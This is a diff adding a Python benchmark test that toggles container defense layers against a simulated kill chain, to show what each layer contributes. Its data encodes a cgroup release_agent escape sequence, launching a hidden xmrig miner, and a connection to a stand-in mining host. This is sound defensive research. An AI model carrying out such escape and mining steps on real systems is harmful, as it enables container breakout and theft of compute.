@@ -1,0 +1,151 @@
+"""E14 (ablation) — defense-in-depth layers against the T8 kill chain.
+
+DESIGN.md calls for ablation benches on the design choices: here each
+runtime-defense layer (M16 admission gate, container spec hygiene, seccomp,
+M17 LSM policy, M18+response) is toggled independently against the full
+malicious-tenant kill chain (deploy -> escape -> mine -> exfiltrate),
+showing what each layer uniquely contributes — the argument for deploying
+all of them that Section VI makes implicitly.
+"""
+
+from dataclasses import dataclass
+from typing import List, Optional
+
+from repro.platform.workloads import malicious_miner_image
+from repro.security.malware import make_admission_hook
+from repro.security.monitor import FalcoEngine
+from repro.security.monitor.response import IncidentResponder
+from repro.security.sandbox import default_tenant_policy, install_policy
+from repro.virt.container import ContainerSpec
+from repro.virt.runtime import ContainerRuntime
+
+
+@dataclass
+class KillChainOutcome:
+    configuration: str
+    deployed: bool
+    escape_steps_allowed: int      # of 3
+    mined: bool
+    exfiltrated: bool
+    detected: bool
+    contained: bool                # container not running at the end
+
+    @property
+    def chain_completed(self) -> bool:
+        return (self.deployed and self.escape_steps_allowed == 3
+                and self.mined and self.exfiltrated and not self.contained)
+
+
+_ESCAPE_CHAIN = [("mount", {"path": "/sys/fs/cgroup", "mode": "rw"}),
+                 ("openat", {"path": "/sys/fs/cgroup/release_agent",
+                             "mode": "w"}),
+                 ("execve", {"path": "/bin/sh"})]
+
+
+def run_kill_chain(name: str, *, gate: bool, hygiene: bool, seccomp: bool,
+                   lsm: bool, monitor_respond: bool) -> KillChainOutcome:
+    runtime = ContainerRuntime("node", cpu_capacity=8.0)
+    if gate:
+        runtime.add_admission_hook(make_admission_hook())
+    if lsm:
+        install_policy(runtime, default_tenant_policy("tenant-*"))
+    engine: Optional[FalcoEngine] = None
+    responder: Optional[IncidentResponder] = None
+    if monitor_respond:
+        engine = FalcoEngine()
+        engine.attach(runtime.bus)
+        responder = IncidentResponder(runtime, engine)
+
+    spec = ContainerSpec(
+        image=malicious_miner_image(), tenant="tenant-mallory",
+        privileged=not hygiene,
+        seccomp_profile="default" if (seccomp and hygiene) else "unconfined",
+        no_new_privileges=hygiene)
+    try:
+        container = runtime.run(spec)
+    except Exception:
+        return KillChainOutcome(name, False, 0, False, False,
+                                detected=True, contained=True)
+
+    allowed = 0
+    for syscall, args in _ESCAPE_CHAIN:
+        if not container.running:
+            break
+        if runtime.syscall(container.id, syscall, **args).allowed:
+            allowed += 1
+        if responder is not None:
+            responder.process_new_alerts()
+
+    mined = exfiltrated = False
+    if container.running:
+        mined = runtime.syscall(container.id, "execve",
+                                path="/opt/.hidden/xmrig").allowed
+        if responder is not None:
+            responder.process_new_alerts()
+    if container.running:
+        exfiltrated = runtime.syscall(container.id, "connect",
+                                      dst="pool.evil.example:3333").allowed
+        if responder is not None:
+            responder.process_new_alerts()
+
+    detected = bool(engine and engine.alerts)
+    return KillChainOutcome(name, True, allowed, mined, exfiltrated,
+                            detected=detected,
+                            contained=not container.running)
+
+
+CONFIGS = [
+    ("no defenses", dict(gate=False, hygiene=False, seccomp=False,
+                         lsm=False, monitor_respond=False)),
+    ("spec hygiene only", dict(gate=False, hygiene=True, seccomp=False,
+                               lsm=False, monitor_respond=False)),
+    ("seccomp only", dict(gate=False, hygiene=True, seccomp=True,
+                          lsm=False, monitor_respond=False)),
+    ("LSM only (M17)", dict(gate=False, hygiene=False, seccomp=False,
+                            lsm=True, monitor_respond=False)),
+    ("monitor+response only (M18)", dict(gate=False, hygiene=False,
+                                         seccomp=False, lsm=False,
+                                         monitor_respond=True)),
+    ("gate only (M16)", dict(gate=True, hygiene=False, seccomp=False,
+                             lsm=False, monitor_respond=False)),
+    ("full stack (M16+M17+M18)", dict(gate=True, hygiene=True, seccomp=True,
+                                      lsm=True, monitor_respond=True)),
+]
+
+
+def test_ablation_defense_depth(benchmark, report):
+    def run_all() -> List[KillChainOutcome]:
+        return [run_kill_chain(name, **flags) for name, flags in CONFIGS]
+
+    outcomes = benchmark(run_all)
+
+    lines = ["E14 (ablation) — runtime defense layers vs the T8 kill chain",
+             "",
+             f"{'configuration':<30} {'deploys':>7} {'escape':>7} "
+             f"{'mines':>6} {'exfil':>6} {'detect':>7} {'contained':>9} "
+             f"{'chain?':>7}"]
+    for outcome in outcomes:
+        lines.append(
+            f"{outcome.configuration:<30} "
+            f"{'yes' if outcome.deployed else 'no':>7} "
+            f"{outcome.escape_steps_allowed}/3{'':>3} "
+            f"{'yes' if outcome.mined else 'no':>6} "
+            f"{'yes' if outcome.exfiltrated else 'no':>6} "
+            f"{'yes' if outcome.detected else 'no':>7} "
+            f"{'yes' if outcome.contained else 'no':>9} "
+            f"{'DONE' if outcome.chain_completed else 'broken':>7}")
+    lines.append("")
+    lines.append("reading: every single layer breaks the chain somewhere "
+                 "different (admission, syscalls, detection+eviction); only "
+                 "'no defenses' lets it complete — the case for depth.")
+    report("E14_ablation_defense_depth", "\n".join(lines))
+
+    by_name = {o.configuration: o for o in outcomes}
+    assert by_name["no defenses"].chain_completed
+    for name, _ in CONFIGS[1:]:
+        assert not by_name[name].chain_completed, name
+    assert not by_name["gate only (M16)"].deployed
+    assert by_name["monitor+response only (M18)"].detected
+    assert by_name["monitor+response only (M18)"].contained
+    full = by_name["full stack (M16+M17+M18)"]
+    assert not full.deployed
